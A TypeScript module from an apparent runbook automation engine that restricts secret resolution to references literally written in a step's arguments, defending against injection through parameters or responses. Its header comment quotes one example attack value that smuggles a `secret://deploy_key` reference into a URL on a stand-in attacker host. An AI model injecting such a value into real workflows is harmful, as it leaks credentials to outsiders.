/**
 * Which `secret://` references an action may resolve: only those its runbook's author wrote
 * literally in the step's `with:`. A reference that arrives inside a value — a parameter, an
 * alert label, a signal, an earlier step's HTTP response — is data from whoever controls that
 * value, and resolving it would let them pick a secret and send it where they like
 * (`-p url='https://attacker/?k=secret://deploy_key'`).
 *
 * Why argument paths rather than tainting values through JSONata: expressions are whole
 * strings (`"{% ... %}"`), so every string leaf of `with:` is either a literal the author
 * wrote or the output of an expression. The workflow lists the paths of the literal leaves
 * that hold a reference, from the definition alone, and the activity resolves a string only
 * at one of those paths. Nothing an expression produces can land on such a path (an
 * expression's output sits under its own leaf), so no value from outside is ever resolved,
 * whatever it contains — no escaping rules, no taint tracking inside JSONata to get wrong.
 * Pure: the workflow calls it.
 */
import { isExpression } from '../dsl/expression';
import { SECRET_SCHEME } from './references';

export type ArgumentPath = (string | number)[];

/** What the workflow tells the activity, beside the evaluated arguments. */
export interface SecretProvenance {
  /** Paths under `with:` of literal strings, written in the runbook, that contain `secret://`. */
  literalSecretPaths: ArgumentPath[];
}

export function literalSecretPaths(definition: unknown, at: ArgumentPath = []): ArgumentPath[] {
  if (typeof definition === 'string') return definition.includes(SECRET_SCHEME) && !isExpression(definition) ? [at] : [];
  if (Array.isArray(definition)) return definition.flatMap((v, i) => literalSecretPaths(v, [...at, i]));
  if (definition && typeof definition === 'object') return Object.entries(definition).flatMap(([k, v]) => literalSecretPaths(v, [...at, k]));
  return [];
}

/** The string at `path` inside `value`, if there is one. */
export function stringAt(value: unknown, path: ArgumentPath): string | undefined {
  let node: unknown = value;
  for (const key of path) {
    if (!node || typeof node !== 'object' || !Object.prototype.hasOwnProperty.call(node, key)) return undefined;
    node = (node as Record<string | number, unknown>)[key];
  }
  return typeof node === 'string' ? node : undefined;
}

/** A copy of `value` with the string at `path` replaced. */
export function replaceAt(value: unknown, path: ArgumentPath, replacement: string): unknown {
  if (path.length === 0) return replacement;
  const [key, ...rest] = path;
  if (Array.isArray(value)) return value.map((v, i) => (i === key ? replaceAt(v, rest, replacement) : v));
  const record = value as Record<string, unknown>;
  return { ...record, [key]: replaceAt(record[key as string], rest, replacement) };
}

/** Accepts only a well-formed provenance (the activity's second argument); anything else means "no literal references". */
export function parseProvenance(raw: unknown): SecretProvenance {
  const paths = (raw as { literalSecretPaths?: unknown } | undefined)?.literalSecretPaths;
  if (!Array.isArray(paths)) return { literalSecretPaths: [] };
  return {
    literalSecretPaths: paths.filter((p): p is ArgumentPath => Array.isArray(p) && p.every((k) => typeof k === 'string' || typeof k === 'number')),
  };
}
